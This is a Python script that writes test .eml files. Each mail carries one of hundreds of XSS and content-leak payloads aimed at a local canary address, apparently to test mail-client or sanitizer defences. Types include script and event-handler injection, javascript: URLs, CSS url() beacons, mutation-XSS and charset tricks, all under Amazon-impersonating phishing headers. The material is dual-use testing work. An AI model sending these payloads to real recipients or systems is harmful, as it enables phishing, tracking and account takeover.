#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Mails whose HTML wants to run, load, lead or hide something.

    hostile.py FOLDER CANARY

CANARY is the origin ("http://127.0.0.1:9") that every one tries to reach.
Writes NAME.eml files; the same names each time.
"""
import base64
import pathlib
import quopri
import sys

S = "<script>document.title='PWNED';new Image().src='CANARY/s'</script>"
J = "document.title=`PWNED`;new Image().src=`CANARY/h`"

SCRIPT = [
    S, S.upper().replace("CANARY", "CANARY"), "<ScRiPt src=CANARY/x.js></sCrIpT>",
    "<script/src=CANARY/x.js></script>", "<script\x0bsrc=CANARY/x.js></script>",
    "<script>//<!--\n" + J + "\n--></script>", "<<script>" + J + "//<</script>",
    "<script x=\">\" src=CANARY/x.js></script>", "<scr\x00ipt>" + J + "</script>",
    "<script type=module src=CANARY/m.js></script>",
    "<script type=importmap>{\"imports\":{\"a\":\"CANARY/i.js\"}}</script>",
    "<scr<script>ipt>" + J + "</script>", "</title>" + S, "</textarea>" + S,
    "</style>" + S, "--></noscript>" + S, "<!--><img src=x onerror=" + J + ">-->",
    "<!--[if true]>" + S + "<![endif]-->", "<![CDATA[" + S + "]]>", "<?xml?>" + S,
    "<!DOCTYPE html [<!ENTITY x '" + S + "'>]>&x;", "<%" + S + "%>",
    "<template>" + S + "</template>", "<noscript><p title=\"</noscript>" + S + "\">",
    "<xmp>" + S + "</xmp>", "<plaintext>" + S, "<listing>" + S + "</listing>",
    "<iframe srcdoc=\"" + S.replace('"', "&quot;") + "\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"
    "</object>",
    "<embed src=\"data:text/html,<script>parent.document.title='PWNED'</script>\">",
]

EVENTS = ["<%s>" % t for t in (
    "img src=x onerror='%s'", "img src=x onerror=\"%s\" ", "img/src=x/onerror='%s'",
    "img src=\"x\" OnErRoR = '%s'", "img src=x onerror&#61;'%s'",
    "img src=x:x onerror\n='%s'", "image src=x onerror='%s'",
    "body onload='%s'", "body onpageshow='%s'", "svg onload='%s'",
    "svg/onload='%s'", "video onerror='%s'><source src=x", "audio src=x onerror='%s'",
    "input autofocus onfocus='%s'", "select autofocus onfocus='%s'",
    "textarea autofocus onfocus='%s'", "button autofocus onfocus='%s'",
    "details open ontoggle='%s'", "marquee onstart='%s'", "a href=# onclick='%s'",
    "div onmouseover='%s' style='position:fixed;inset:0'",
    "p onanimationstart='%s' style='animation:x 1s'", "style onload='%s'",
    "link rel=stylesheet href=x onerror='%s'", "object data=x onerror='%s'",
    "iframe onload='%s'", "frameset onload='%s'", "meter onclick='%s'",
    "form onsubmit='%s'", "table background=x onerror='%s'",
    "td onpointerenter='%s'", "dialog open onclose='%s'",
    "math href=x onclick='%s'", "isindex type=image src=x onerror='%s'")]
EVENTS = [e.replace("%s", J) for e in EVENTS]

URLS = [
    "<a href='javascript:%s'>x</a>", "<a href='JaVaScRiPt:%s'>x</a>",
    "<a href='java\tscript:%s'>x</a>", "<a href='java\nscript:%s'>x</a>",
    "<a href='&#106;avascript:%s'>x</a>", "<a href='&#x6A;avascript&colon;%s'>x</a>",
    "<a href=' \x01javascript:%s'>x</a>", "<a href='vbscript:%s'>x</a>",
    "<a href='data:text/html,<script>%s</script>'>x</a>",
    "<a href='CANARY/a'>x</a>", "<a href='CANARY/a' ping='CANARY/ping'>x</a>",
    "<a target=_top href='CANARY/top'>x</a>", "<a download href='CANARY/d'>x</a>",
    "<form action='CANARY/f'><input name=a><button>x</button></form>",
    "<form action='javascript:%s'><input type=submit></form>",
    "<button formaction='CANARY/f'>x</button>", "<input type=image src='CANARY/i'>",
    "<isindex action='javascript:%s'>", "<area href='javascript:%s'>x",
    "<map name=m><area shape=default href='CANARY/m'></map><img usemap=#m>",
    "<base href='CANARY/'><a href=x>x</a><img src=y>",
    "<base target=_top><a href='CANARY/b'>x</a>",
    "<meta http-equiv=refresh content='0;url=CANARY/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=data:text/html,%s\">",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<meta http-equiv=content-security-policy content=\"script-src *\">" + S,
    "<link rel=prefetch href='CANARY/p'>", "<link rel=dns-prefetch href='CANARY'>",
    "<link rel=preconnect href='CANARY'>", "<link rel=stylesheet href='CANARY/c.css'>",
    "<link rel=import href='CANARY/i'>", "<link rel=icon href='CANARY/i.ico'>",
    "<link rel=manifest href='CANARY/m'>", "<link rel=preload as=image href='CANARY/p'>",
    "<iframe src='CANARY/i'></iframe>", "<iframe src='javascript:%s'></iframe>",
    "<frameset><frame src='CANARY/f'></frameset>", "<object data='CANARY/o'></object>",
    "<embed src='CANARY/e'>", "<applet code=x archive='CANARY/a'></applet>",
    "<portal src='CANARY/p'></portal>", "<fencedframe></fencedframe>",
    "<svg><a xlink:href='javascript:%s'><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:%s'>x</mi></math>",
    "<html manifest='CANARY/m'>", "<blockquote cite='CANARY/c'>x</blockquote>",
]
URLS = [u.replace("%s", J) for u in URLS]

LOADS = [
    "<img src='CANARY/i'>", "<img srcset='CANARY/i 1x, CANARY/j 2x'>",
    "<picture><source srcset='CANARY/p'><img src='CANARY/q'></picture>",
    "<img lowsrc='CANARY/l' dynsrc='CANARY/d'>", "<input type=image src='CANARY/i'>",
    "<video src='CANARY/v' poster='CANARY/p' autoplay></video>",
    "<audio src='CANARY/a' autoplay></audio>", "<track src='CANARY/t'>",
    "<body background='CANARY/b'>", "<table background='CANARY/t'><tr><td>x</table>",
    "<td background='CANARY/td'>", "<bgsound src='CANARY/b'>",
    "<svg><image href='CANARY/i' /></svg>", "<svg><use href='CANARY/u#a'/></svg>",
    "<svg><feImage href='CANARY/f'/></svg>", "<img src='//127.0.0.1:9/x'>",
    "<img src='file:///etc/passwd'>", "<img src='cid:x' longdesc='CANARY/l'>",
    "<svg><script href='CANARY/s.js'/></svg>", "<img src='/static/site.js'>",
    "<svg><style>@import 'CANARY/s.css'</style></svg>", "<amp-img src='CANARY/a'></amp-img>",
    "<v:fill src='CANARY/v' xmlns:v='urn:schemas-microsoft-com:vml'>",
    "<!--[if gte mso 9]><v:image src='CANARY/m'/><![endif]-->",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x\"/>'>",
]

STYLES = [
    "background:url(CANARY/u)", "background-image:url('CANARY/u')",
    "background:u\\72l(CANARY/u)", "background:/**/url(CANARY/u)",
    "background:UrL(CANARY/u)", "list-style:url(CANARY/u)", "cursor:url(CANARY/u),auto",
    "content:url(CANARY/u)", "border-image:url(CANARY/u) 30", "mask:url(CANARY/u)",
    "filter:url(CANARY/u#a)", "clip-path:url(CANARY/u#a)", "shape-outside:url(CANARY/u)",
    "background:image-set('CANARY/u' 1x)", "background:-webkit-image-set(url(CANARY/u) 1x)",
    "background:cross-fade(url(CANARY/u),red)", "background:src('CANARY/u')",
    "background:var(--x,url(CANARY/u))", "--x:url(CANARY/u);background:var(--x)",
    "width:expression(alert(1))", "behavior:url(CANARY/u)", "-moz-binding:url(CANARY/u)",
    "color:red;background:\"url(CANARY/u)", "color:red}*{background:url(CANARY/u)}",
    "color:red;/*;background:url(CANARY/u);*/", "font-family:'a;b:url(CANARY/u)'",
    "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999",
    "position:absolute;top:-900px", "background:attr(title url)",
    "background:element(#x)", "background:paint(x)", "color:red;@import 'CANARY/u'",
    "background:url(\"javascript:alert(1)\")", "background:red url(CANARY/u)",
    "background:\tu\nr\nl(CANARY/u)", "background:url&#40;CANARY/u&#41;",
]
STYLES = ["<div style=\"%s\" title='CANARY/t'>x</div>" % s.replace('"', "&quot;")
          for s in STYLES]

SHEETS = [
    "<style>@import url(CANARY/s)</style>", "<style>@import 'CANARY/s';</style>",
    "<style>*{background:url(CANARY/s)}</style>",
    "<style>@font-face{font-family:a;src:url(CANARY/f)}*{font-family:a}</style>",
    "<style>input[value^=a]{background:url(CANARY/v)}</style>",
    "<style>body{display:none}</style>", "<style><!--</style>" + S + "-->",
    "<style>a{b:'</style>" + S + "'}</style>",
]

# Re-parsing that turns harmless into harmful (mutation).
MUTATION = [
    "<svg></p><style><a title=\"</style><img src=x onerror='%s'>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror='%s'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror='%s'>",
    "<svg><style>&lt;img src=x onerror='%s'&gt;</style></svg>",
    "<noscript><style></noscript><img src=x onerror='%s'></style>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror='%s'></style>"
    "</annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</style><a title='--><img src=x onerror=%s>'>",
    "<svg><desc><title><img src=x onerror='%s'></title></desc></svg>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select>"
    "<img src=x onerror='%s'>\">", "<table><tr><svg><td><img src=x onerror='%s'>",
    "<math></br><img src=x onerror='%s'>", "<svg></p><img src=x onerror='%s'>",
    "<a title=\"`><img src=x onerror='%s'>\">x</a>", "<b title=\"&quot;><img src=x onerror='%s'>\">x",
    "<b title='\"><img src=x onerror=alert(1)>'>x</b>", "&lt;img src=x onerror='%s'&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img alt=\"&lt;script&gt;%s&lt;/script&gt;\">",
    "<input value='\"><script>alert(1)</script>'>", "<textarea></textarea><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><img src=x onerror='%s'>\">", "<iframe><img src=x onerror='%s'></iframe>",
    "<noembed><img title=\"</noembed><img src=x onerror='%s'>\"></noembed>",
    "<title><img title=\"</title><img src=x onerror='%s'>\"></title>",
    "</body></html></iframe>" + S, "\"></iframe>" + S, "\" onload=\"alert(1)\" x=\"",
    "' onload='alert(1)' x='", "]]>--></script></style></title></textarea>" + S,
    "{{&answer}}{{>foot}}{{#again}}" + S, "\u2028" + S, "\ufeff" + S,
    "<a href=\"#\">" * 600 + S, "<div>" * 2000 + S, "<b><i><p>" * 200 + S,
    "<table>" * 100 + S, "<" + "a" * 5000 + " onclick=alert(1)>", "<a " + "b=c " * 2000 + ">x" + S,
]
MUTATION = [m.replace("%s", J) for m in MUTATION]

GROUPS = [("script", SCRIPT), ("event", EVENTS), ("url", URLS), ("load", LOADS),
          ("style", STYLES), ("sheet", SHEETS), ("mutation", MUTATION)]

HEAD = (b"From: =?UTF-8?B?QW1hem9uLmNvLmpwPHNjcmlwdD4=?= <a@evil.example>\r\n"
        b"To: you@home.example\r\nSubject: Amazon.co.jp <img src=x onerror=alert(1)>\r\n"
        b"Date: Tue, 28 Oct 2025 10:00:00 +0900\r\nMIME-Version: 1.0\r\n")


def html(payload):
    text = "<p>Amazon.co.jp: confirm your account</p>%s<p>end of mail</p>" % payload
    return text.encode("utf-8", "surrogatepass")


def plain_part(body):
    return HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + body


def base64_part(body):
    return (HEAD + b"Content-Type: text/html; charset=utf-8\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(body))


def alternative(body):
    return (HEAD + b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
            b"Content-Type: text/plain\r\n\r\n" + body + b"\r\n--b\r\nContent-Type: "
            b"text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" +
            quopri.encodestring(body) + b"\r\n--b--\r\n")


OTHER = {
    "plain-text": HEAD + b"Content-Type: text/plain\r\n\r\n" + html(S),
    "utf-7": HEAD + b"Content-Type: text/html; charset=utf-7\r\n\r\n"
             b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "utf-16": HEAD + b"Content-Type: text/html; charset=utf-16le\r\n\r\n" +
              html(S).decode().encode("utf-16le"),
    "iso-2022-jp": HEAD + b"Content-Type: text/html; charset=iso-2022-jp\r\n\r\n"
                   b"\x1b$B<img src=x onerror=alert(1)>\x1b(B" + html(S),
    "svg-attached": HEAD + b"Content-Type: image/svg+xml; name=\"a.svg\"\r\n\r\n"
                    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "file-name": HEAD + b"Content-Type: text/html\r\nContent-Disposition: attachment; "
                 b"filename=\"<img src=x onerror=alert(1)>.html\"\r\n\r\n" + html(S),
    "xhtml": HEAD + b"Content-Type: application/xhtml+xml\r\n\r\n" + html(S),
    "bidi": HEAD + "Content-Type: text/html\r\n\r\n\u202e<b>\u2066x</b>".encode() + html(S),
}


def main(folder, canary):
    out = pathlib.Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    shapes = [plain_part, base64_part, alternative]
    n = 0
    for name, payloads in GROUPS:
        for i, payload in enumerate(payloads):
            mail = shapes[n % 3](html(payload.replace("CANARY", canary)))
            (out / ("%s-%02d.eml" % (name, i))).write_bytes(mail)
            n += 1
    for name, mail in OTHER.items():
        mail = mail.replace(b"CANARY", canary.encode())
        (out / ("other-%s.eml" % name)).write_bytes(mail)
        n += 1
    print(n)


if __name__ == "__main__":
    main(*sys.argv[1:])
